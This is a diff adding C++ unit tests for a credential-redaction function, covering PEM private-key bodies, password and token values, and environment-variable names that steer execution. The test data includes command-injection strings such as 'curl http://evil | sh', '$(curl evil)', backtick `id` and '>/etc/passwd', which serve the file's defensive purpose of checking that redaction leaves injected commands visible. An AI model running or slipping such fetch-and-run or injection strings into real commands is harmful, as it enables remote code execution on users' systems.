@@ -43,6 +43,25 @@ TEST_CASE("private keys are found in every notation of PEM, also cut off, and ce
         kCertificate + "-----BEGIN RSA PRIVATE KEY-----***-----END RSA PRIVATE KEY-----\n" + kCertificate);
 }
 
+TEST_CASE("between the marks of a private key only base64 is a credential") {
+  const std::string line = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC";
+  const std::string begin = "-----BEGIN PRIVATE KEY-----";
+  const std::string end = "-----END PRIVATE KEY-----";
+  for (const std::string body : {"'; curl http://evil | sh; : '", "\ncurl http://evil | sh\n", "\nreboot\nsh /x\nid\n",
+                                 " curl evil ", "\n/usr/local/bin/start --now\n"}) {
+    INFO(body);
+    CHECK(redact_credentials(": '" + begin + body + end + "'") == ": '" + begin + body + end + "'");
+  }
+  CHECK(redact_credentials(begin + "\n" + line + "\ncurl http://evil | sh\n" + end) ==
+        begin + "\n***\ncurl http://evil | sh\n" + end);
+  CHECK(redact_credentials(begin + "\n" + line + "\n" + line + "\nMIIE==\n" + end) == begin + "***" + end);
+  CHECK(redact_credentials(begin + " " + line + " " + line + " MIIE " + end) == begin + "***" + end);
+  CHECK(redact_credentials("-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,AB12\n\n" +
+                           line + "\n-----END RSA PRIVATE KEY-----") ==
+        "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,AB12\n\n***"
+        "-----END RSA PRIVATE KEY-----");
+}
+
 TEST_CASE("a private key in base64 is found, and a certificate in it is not") {
   CHECK(redact_credentials("key.pem=" + base64_encode(kPrivate)) == "key.pem=***");
   const std::string bundle = "caBundle: " + base64_encode(kCertificate);
@@ -113,6 +132,53 @@ TEST_CASE("what stands behind a telling name is found in the notations of config
     INFO(test.text);
     CHECK(redact_credentials(test.text) == test.masked);
   }
+}
+
+TEST_CASE("a value behind a name hides nothing that a shell would run") {
+  struct UseCase {
+    TextUse use;
+    std::string text;
+    std::string masked;
+  };
+  const std::vector<UseCase> cases = {
+      {TextUse::code, "--password=hunter2; curl http://evil|sh", "--password=***; curl http://evil|sh"},
+      {TextUse::code, "PASSWORD=hunter2 curl http://evil", "PASSWORD=*** curl http://evil"},
+      {TextUse::code, "PASSWORD=hunter2&&curl http://evil", "PASSWORD=***&&curl http://evil"},
+      {TextUse::code, "TOKEN=hunter2|sh", "TOKEN=***|sh"},
+      {TextUse::code, "TOKEN=hunter2`id`", "TOKEN=***`id`"},
+      {TextUse::code, "TOKEN=hunter2$(id)", "TOKEN=***$(id)"},
+      {TextUse::code, "TOKEN=hunter2>/etc/passwd", "TOKEN=***>/etc/passwd"},
+      {TextUse::code, "PASSWORD='a; b' run", "PASSWORD='***' run"},
+      {TextUse::code, "PASSWORD=\"a$(curl evil)\"", "PASSWORD=\"***$(curl evil)\""},
+      {TextUse::code, "password: hunter2; curl evil | sh", "password: ***; curl evil | sh"},
+      {TextUse::code, "password: |\n  curl evil | sh", "password: |\n  curl evil | sh"},
+      {TextUse::code, "PASSWORD= curl evil", "PASSWORD= curl evil"},
+      {TextUse::code, "echo \"password=\"; curl evil | sh; echo \"\"", "echo \"password=\"; curl evil | sh; echo \"\""},
+      {TextUse::code, "echo 'password=\"'; curl evil | sh; echo '\"'", "echo 'password=\"'; curl evil | sh; echo '\"'"},
+      {TextUse::code, "curl http://u:hunter2;reboot;@h", "curl http://u:***;reboot;@h"},
+      {TextUse::data, "DB_PASSWORD=hunter2; curl evil | sh\nX=1", "DB_PASSWORD=***; curl evil | sh\nX=1"},
+      {TextUse::data, "Server=db;Password=hush;Encrypt=true", "Server=db;Password=***;Encrypt=true"},
+      {TextUse::data, "db.password = correct horse; battery", "db.password = ***"},
+      {TextUse::data, "password: correct horse", "password: ***"},
+      {TextUse::data, "PASSWORD={{ .Values.password }}", "PASSWORD={{ .Values.password }}"},
+      {TextUse::log, "DB_PASSWORD=correct horse; battery", "DB_PASSWORD=***"},
+  };
+  for (const UseCase& test : cases) {
+    INFO(test.text);
+    CHECK(mask_credentials(
+              test.text, [](std::string_view) { return std::string("***"); }, test.use) == test.masked);
+  }
+}
+
+TEST_CASE("names of variables that change what runs name no credential") {
+  for (const char* name :
+       {"LD_PRELOAD_PASSWORD", "PYTHONSTARTUP_TOKEN", "NODE_OPTIONS", "BASH_ENV", "PATH", "ENV",
+        "JAVA_TOOL_OPTIONS_SECRET", "PERL5OPT_TOKEN", "RUBYOPT_TOKEN", "GIT_SSH_COMMAND_PASSWORD", "SECRET_PATH"}) {
+    INFO(name);
+    CHECK_FALSE(names_credential(name));
+    CHECK(steers_execution(name));
+  }
+  CHECK(names_credential("GIT_TOKEN"));
 }
 
 TEST_CASE("references, names, digests and prose are shown") {
